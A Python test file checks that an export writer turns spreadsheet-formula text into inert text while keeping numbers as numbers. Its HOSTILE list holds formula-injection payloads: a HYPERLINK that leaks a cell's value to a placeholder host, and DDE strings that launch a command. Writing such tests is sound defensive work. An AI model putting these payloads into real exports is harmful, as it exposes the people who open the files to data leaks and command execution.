"""The export writer: text that a spreadsheet would run as a formula comes out as inert text;
numbers, negative ones included, stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from aptrack.core import exports

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_quote(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        -3,
        2.5,
        Decimal("-12.50"),
        0,
        None,
        True,
        dt.date(2027, 1, 21),
        "-3",
        "+44",
        "-0.5",
        "Smith",
        "O'Neil",
        "Mary-Jane",
        "",
        "a=b",
    ],
)
def test_numbers_and_plain_text_are_unchanged(value):
    assert exports.neutralise(value) == value


def test_csv_writer_neutralises_every_cell_and_keeps_numbers():
    stream = io.StringIO(newline="")
    writer = exports.csv_writer(stream)
    writer.writerow(["Name", "Change"])
    writer.writerows([[HOSTILE[0], -3], ["Ann", Decimal("-1.5")]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["Name", "Change"], ["'" + HOSTILE[0], "-3"], ["Ann", "-1.5"]]


def test_workbook_has_no_formula_however_the_cell_was_filled():
    book = Workbook()
    sheet = book.active
    for row, value in enumerate(HOSTILE, start=1):
        sheet.cell(row=row, column=1, value=value)
    sheet["B1"] = "=1+1"
    sheet["B2"] = -4
    sheet["B3"] = "-4"
    read = load_workbook(io.BytesIO(exports.workbook_bytes(book)))
    cells = [cell for row in read.active.iter_rows() for cell in row if cell.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if str(c.value).startswith("=")] == []
    assert read.active["A1"].value == "'" + HOSTILE[0]
    assert read.active["B1"].value == "'=1+1"
    assert read.active["B2"].value == -4 and read.active["B2"].data_type == "n"
    assert read.active["B3"].value == "-4"


def test_every_download_is_written_through_the_export_writer():
    """No module writes a CSV or saves a workbook except through `core.exports` (the benchmark
    scripts write input files for the importers, not downloads)."""
    root = Path(exports.__file__).parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or "/migrations/" in relative or path.name.startswith("bench"):
            continue
        if path == Path(exports.__file__):
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(relative)
        if "Workbook(" in text and "exports.workbook_bytes(" not in text:
            offenders.append(relative)
    assert offenders == []
